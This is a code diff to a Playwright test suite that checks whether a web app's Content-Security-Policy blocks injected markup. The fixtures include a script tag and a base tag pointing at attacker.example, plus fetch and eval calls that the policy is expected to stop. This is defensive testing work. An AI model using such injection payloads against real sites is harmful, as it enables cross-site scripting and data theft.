@@ -1,6 +1,7 @@
 import type { Page } from 'playwright'
 import { assert } from '#test'
 import { dataScreens, screenNames } from '../support/app-tables'
+import { mapOrigin } from '../support/map-origin'
 import { openedScreen, openScreen } from '../support/page'
 import { siteSuite, visit } from '../support/site'
 
@@ -8,7 +9,7 @@ const test = siteSuite('security')
 
 const scrollToEnd = (page: Page) => page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight))
 
-test('security: asks only its own origin, data host and map', async ({ site }) => {
+test('security: requests only its origin, data host and map', async ({ site }) => {
   const { page, context, origins } = await visit(site, { path: 'no-such-screen' })
   context.on('request', (request) => origins.add(new URL(request.url()).origin))
   for (const name of screenNames) {
@@ -18,11 +19,11 @@ test('security: asks only its own origin, data host and map', async ({ site }) =
     await scrollToEnd(page)
     if (name === 'Weather') await page.locator('iframe').waitFor()
   }
-  const expected = [new URL(site.url).origin, site.data.url, 'https://embed.windy.com']
+  const expected = [new URL(site.url).origin, site.data.url, mapOrigin]
   assert.equal([...origins].sort(), expected.sort())
 })
 
-/** Markup that an attacker brings into the page, and the directive that forbids what it does. */
+/** Injected markup, and the directive that blocks it. */
 const attacks: [directive: string, markup: string][] = [
   ['script-src-elem', '<script>isBroken = true</script>'],
   ['script-src-elem', '<script src="https://attacker.example/script.js"></script>'],
@@ -37,15 +38,15 @@ const attacks: [directive: string, markup: string][] = [
   ['base-uri', '<base href="https://attacker.example/">'],
 ]
 
-/** The directive by which the browser forbids some markup, or a call; `nothing` after three seconds without one. */
-const forbiddenBy = (page: Page, markup: string, call?: string): Promise<string> =>
+/** The directive that blocks some markup or a call; `nothing` if none does within three seconds. */
+const blockedBy = (page: Page, markup: string, call?: string): Promise<string> =>
   page.evaluate(
     ([markup, call]) =>
       new Promise<string>((resolve) => {
         addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
           once: true,
         })
-        // From a task of the page: what a test evaluates may do more than the page.
+        // In a task of its own: `evaluate` bypasses the policy.
         setTimeout(() => {
           // Unlike innerHTML, this runs scripts.
           document.body.append(document.createRange().createContextualFragment(markup))
@@ -54,10 +55,10 @@ const forbiddenBy = (page: Page, markup: string, call?: string): Promise<string>
           control?.click()
           if (call === 'fetch') fetch('https://attacker.example/').catch(() => {})
           try {
-            // oxlint-disable-next-line no-eval -- what the policy must forbid
+            // oxlint-disable-next-line no-eval -- the policy must block it
             if (call === 'eval') (0, eval)('isBroken = true')
           } catch {
-            // The event says so.
+            // The event reports it.
           }
         })
         setTimeout(() => resolve('nothing'), 3000)
@@ -65,11 +66,11 @@ const forbiddenBy = (page: Page, markup: string, call?: string): Promise<string>
     [markup, call] as const,
   )
 
-test('security: the policy forbids what markup could do', async ({ site }) => {
+test('security: the policy blocks injected markup', async ({ site }) => {
   const { page } = await visit(site, { path: 'info' })
-  for (const [directive, markup] of attacks) assert.is(await forbiddenBy(page, markup), directive, markup)
-  assert.is(await forbiddenBy(page, '', 'fetch'), 'connect-src')
-  assert.is(await forbiddenBy(page, '', 'eval'), 'script-src')
+  for (const [directive, markup] of attacks) assert.is(await blockedBy(page, markup), directive, markup)
+  assert.is(await blockedBy(page, '', 'fetch'), 'connect-src')
+  assert.is(await blockedBy(page, '', 'eval'), 'script-src')
   assert.is(await page.evaluate(() => 'isBroken' in window), false)
   assert.ok(await page.locator('h1:visible').isVisible())
   assert.is(await page.evaluate(() => document.baseURI), `${site.url}info`)
